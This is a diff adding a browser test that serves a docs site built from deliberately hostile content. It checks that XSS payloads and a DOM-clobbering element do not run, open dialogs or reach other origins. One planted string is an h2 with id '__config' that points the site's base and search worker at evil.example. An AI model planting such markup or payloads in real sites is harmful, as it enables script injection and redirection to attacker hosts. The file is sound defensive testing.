@@ -1,0 +1,134 @@
+"""The hostile corpus in a real browser: no dialog opens, no request leaves 127.0.0.1, no console error.
+
+tests/test_hostile.py checks the built HTML; this checks what a visitor's browser does with it, on every
+page that carries an XSS payload (scripts, handlers, `javascript:` URLs, ids that would clobber
+Material's `#__config`), and in the search, with the payloads' own text as the query. Requests to any
+other origin are intercepted, recorded and aborted: nothing ever goes out.
+"""
+from __future__ import annotations
+
+import functools
+import http.server
+import threading
+
+import pytest
+from playwright.sync_api import Page
+
+from browser.conftest import Guard, _Handler
+from test_hostile import CLOBBER, RAW_HTML, Hostile, write
+
+PREFIX = "gemma"  # the test builds' site_url path (tests/conftest.py SITE_URL)
+EVIL_CONFIG = ('<h2 id="__config">{"base": "https://evil.example", "features": [], "search": '
+               '"https://evil.example/worker.js", "translations": {}}</h2>')
+
+
+def plant(corpus, docs) -> None:
+    """Ids that would stand in for Material's configuration, in a lane README, a snapshot and a doc."""
+    write(corpus / "lane-b" / "README.md", "# Lane B\n\nOdd names.\n\n" + EVIL_CONFIG + "\n\n" + CLOBBER)
+    write(corpus / "lane-a" / "clobber.html", f"<html><body>{EVIL_CONFIG}<a name='__search'>s</a>{RAW_HTML}"
+                                              "</body></html>")
+    write(docs / "CLOBBER.md", "# Clobber\n\n## __config\n\n" + EVIL_CONFIG + "\n\n" + RAW_HTML)
+
+
+# (page, what it carries)
+PAGES = [
+    ("", "home"),
+    ("tooling/", "index: raw HTML section, map row with onerror"),
+    ("tooling/lane-a/", "lane README: scripts, handlers, javascript: links"),
+    ("tooling/lane-b/", "lane README: <h2 id=__config>"),
+    ("tooling/lane-a/page.html/", "HTML snapshot with a script"),
+    ("tooling/lane-a/clobber.html/", "HTML snapshot with id=__config"),
+    ("tooling/lane-a/notes.md/", "Markdown artifact with raw HTML"),
+    ("tooling/lane-a/small.ipynb/", "notebook with HTML output"),
+    ("tooling/gemma-family/", "catalog of hostile briefs"),
+    ("tooling/gemma-family/evilgemma/", "brief: title, purpose, body payloads"),
+    ("findings/", "findings list with hostile titles"),
+    ("findings/raw-html-body/", "finding with raw HTML"),
+    ("ENT/", "doc with an entity-encoded title"),
+    ("CLOBBER/", "doc with id=__config"),
+    ("health/", "health page naming hostile files"),
+]
+QUERIES = ["RAWSCRIPT", "alert", "__config", "evil"]
+
+
+@pytest.fixture(scope="module")
+def hostile_served(tmp_path_factory):
+    h = Hostile(tmp_path_factory.mktemp("hostile-browser"), plant=plant)
+    assert h.built.returncode == 0, h.built.log[-3000:]
+    root = tmp_path_factory.mktemp("www-hostile")
+    (root / PREFIX).symlink_to(h.site, target_is_directory=True)
+    handler = type("Handler", (_Handler,), {"not_found_page": h.site / "404.html"})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(root)))
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, name="hostile-site", daemon=True).start()
+    try:
+        yield h, f"http://127.0.0.1:{server.server_port}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture(scope="module")
+def guarded(browser, hostile_served):
+    _, origin = hostile_served
+    guard = Guard(origin)
+    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
+    ctx.set_default_timeout(15_000)
+    ctx.route("**/*", guard.route)  # every request: on the origin it goes on, otherwise recorded and aborted
+    ctx.on("page", guard.watch)
+    dialogs: list[str] = []
+    page = ctx.new_page()
+    page.on("dialog", lambda d: (dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
+    yield page, guard, dialogs, origin
+    ctx.close()
+
+
+def js_errors(guard: Guard) -> list[str]:
+    """Console errors of scripts (uncaught exceptions included). A same-origin 404 is not one: a doc may
+    keep a relative image (the site's own assets), and the payload's `<img src="x">` names no file."""
+    return [e for e in guard.console_errors if not e.startswith("Failed to load resource")]
+
+
+def _search(page: Page, query: str) -> None:
+    """Type `query` into Material's search and wait until the worker has answered (results or 'no match')."""
+    page.locator(".md-search__input").click()
+    page.locator(".md-search__input").fill(query)
+    page.wait_for_function(
+        """() => { const m = document.querySelector('.md-search-result__meta');
+                   return m && m.textContent.trim() !== '' && !/initiali[sz]ing/i.test(m.textContent); }""")
+
+
+def test_hostile_pages_open_no_dialog_and_send_nothing_elsewhere(guarded, hostile_served):
+    h, _ = hostile_served
+    page, guard, dialogs, origin = guarded
+    visited = 0
+    for path, what in PAGES:
+        assert (h.site / path / "index.html").is_file(), (path, what)
+        guard.reset()
+        response = page.goto(f"{origin}/{PREFIX}/{path}", wait_until="load")
+        assert response is not None and response.status == 200, (path, what)
+        page.wait_for_load_state("networkidle")
+        # Material read its own configuration, not a corpus element's
+        base = page.evaluate("() => JSON.parse(document.querySelector('#__config').textContent).base")
+        assert "evil" not in base, (path, base)
+        assert page.locator("#__config").evaluate("e => e.tagName") == "SCRIPT", path
+        assert dialogs == [], (path, what, dialogs)
+        assert guard.external == [], (path, what, guard.external)
+        assert js_errors(guard) == [], (path, what, guard.console_errors)
+        visited += 1
+    assert visited == len(PAGES)
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_searching_for_the_payloads_runs_nothing(guarded, query):
+    page, guard, dialogs, origin = guarded
+    page.goto(f"{origin}/{PREFIX}/tooling/lane-b/", wait_until="load")
+    guard.reset()
+    _search(page, query)
+    results = page.locator(".md-search-result__item")
+    for i in range(min(results.count(), 10)):  # the results themselves show payload text: still inert
+        results.nth(i).hover()
+    page.wait_for_load_state("networkidle")
+    assert dialogs == [], (query, dialogs)
+    assert guard.external == [], (query, guard.external)
+    assert js_errors(guard) == [], (query, guard.console_errors)
